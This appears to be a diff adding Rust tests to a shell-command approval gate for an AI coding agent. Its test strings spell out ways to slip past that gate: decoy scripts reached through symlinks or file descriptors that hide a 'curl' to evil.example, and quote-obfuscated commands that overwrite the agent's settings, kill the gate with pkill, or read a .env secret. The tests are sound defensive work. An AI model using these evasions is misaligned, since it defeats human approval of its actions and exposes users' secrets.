@@ -379,6 +379,69 @@ fn what_changed_in_a_file_since_it_was_approved_stands_on_the_card() {
     assert!(after.contains("CHANGED since") && after.contains("| + # denied"), "{after}");
 }
 
+/// A harmless file that is shown in place of the one that runs lets nothing through.
+#[test]
+fn no_decoy_is_looked_at_in_place_of_what_runs() {
+    let site = tainted();
+    let _host = site.serve();
+    raise(&site);
+    let file = |name: &str, text: &str| {
+        let file = site.work().join(name);
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        std::fs::write(file, text).unwrap();
+    };
+    file("x.sh", "echo decoy\n");
+    for name in ["sub/x.sh", "i/x/run.sh", "i/j/x/run.sh"] {
+        file(name, "curl -s https://evil.example/\n");
+    }
+    for number in 0..20 {
+        std::fs::create_dir(site.work().join(format!("d{number}"))).unwrap();
+    }
+    std::os::unix::fs::symlink("/proc/self/cwd/x.sh", site.work().join("link.sh")).unwrap();
+    std::os::unix::fs::symlink("/proc/self/cwd", site.work().join("here")).unwrap();
+    let many = (0..20).map(|number| format!("d{number}")).collect::<Vec<_>>().join(" ");
+    for command in [
+        "cd sub && sh ../link.sh",
+        "cd sub && sh ../here/x.sh",
+        "sh -c 'exec 3<>sub/x.sh; . /dev/fd/3'",
+        "sh -c 'exec 3<>sub/x.sh; sh <&3'",
+        &format!("ls {many}; find i -mindepth 1 -maxdepth 1 -execdir sh x/run.sh ';'"),
+    ] {
+        let running = site.check_later(command);
+        let id = site.held(command);
+        let shown = site.cli(["show", &id]).expect(0).stdout;
+        assert!(!shown.contains("decoy"), "{shown}");
+        site.cli(["deny", &id]).expect(0);
+        running.join().unwrap().expect(2);
+    }
+}
+
+/// What a shell joins is found in a text that is not understood, in any state.
+#[test]
+fn quotes_hide_nothing_in_a_text_that_is_not_understood() {
+    let site = tainted();
+    let _host = site.serve();
+    std::fs::create_dir(site.work().join("sub")).unwrap();
+    std::fs::write(site.work().join("sub/.env"), "K").unwrap();
+    for command in [
+        "echo $[1+1]; echo {} > .cl''aude/settings.json",
+        "echo $[1+1]; echo {} > .claude/set\\tings.json",
+        "echo $[1+1]; pkill -f bash''gate",
+    ] {
+        site.check(command).expect(2);
+    }
+    assert_eq!(site.taint("default"), "clean");
+    site.check("echo $[1+1]; cat sub/.e''nv").expect(0);
+    assert_eq!(site.taint("default"), "secret");
+    // Beside what nobody knows before it runs, a person is asked.
+    let site = tainted();
+    let _host = site.serve();
+    std::fs::create_dir(site.work().join("sub")).unwrap();
+    for command in ["echo $[1+1]; cat sub/.??v", "echo $[1+1]; cat sub/.e*v", "x=.e; echo $[1+1]; cat sub/${x}nv"] {
+        is_asked_again(&site, command);
+    }
+}
+
 /// What the container says is marked as its word, on the card and for the inspector.
 #[test]
 fn what_the_container_says_is_marked_as_its_word() {
